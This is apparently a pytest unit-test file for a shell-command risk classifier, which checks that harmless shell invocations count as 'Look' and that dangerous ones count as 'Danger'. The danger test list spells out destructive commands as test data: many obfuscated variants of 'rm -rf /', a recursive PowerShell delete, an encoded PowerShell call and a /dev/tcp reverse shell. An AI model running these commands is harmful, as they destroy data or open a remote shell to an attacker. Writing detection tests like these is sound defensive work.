"""Shells, and what they are given to run."""

import pytest

from assent.protocol.decision import Risk
from tests.unit.policy.risks import risk


@pytest.mark.parametrize(
    "line",
    [
        "bash -c 'ls -la'",
        "bash -lc 'echo hi && ls'",
        "sh -c 'cat README.md | head -5'",
        "bash --version",
        "bash -n script.sh",
        "bash <<< 'ls'",
    ],
)
def test_shells_that_only_look_are_look(line: str) -> None:
    """What only looks and prints is Look."""
    assert risk(line) == Risk.LOOK


@pytest.mark.parametrize(
    "line",
    [
        "bash scripts/build.sh",
        "bash",
    ],
)
def test_shells_with_more_than_a_look_are_left_to_the_client(line: str) -> None:
    """It is neither waved through nor stopped."""
    assert risk(line) in (Risk.CHANGE, Risk.CARE)


@pytest.mark.parametrize(
    "line",
    [
        "bash -c 'rm -rf \"$1\"' _ /",
        "bash -c '$0 -rf /' rm",
        "bash -c '\"$@\"' _ rm -rf /",
        "bash -O extglob -c 'rm -rf /'",
        "bash -ic 'rm -rf /'",
        "bash --norc -c 'rm -rf /'",
        "sh -xc 'rm -rf /'",
        "sh -c -- 'rm -rf /'",
        "zsh -fc 'rm -rf /'",
        "bash -s <<< 'rm -rf /'",
        "bash /dev/stdin <<< 'rm -rf /'",
        "bash <<-E\n\trm -rf /\n\tE",
        "pwsh -c 'Remove-Item -Recurse /'",
        "pwsh -enc aaaa",
        "fish -c 'rm -rf /'",
        "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
        'bash -c "rm -rf \\"$HOME\\""',
        "bash -c 'X=/; rm -rf $X'",
        "bash <<'E' 2>&1 | tail\nrm -rf /\nE",
    ],
)
def test_shells_with_danger_inside_are_danger(line: str) -> None:
    """Danger is seen behind it, however it is spelled."""
    assert risk(line) == Risk.DANGER
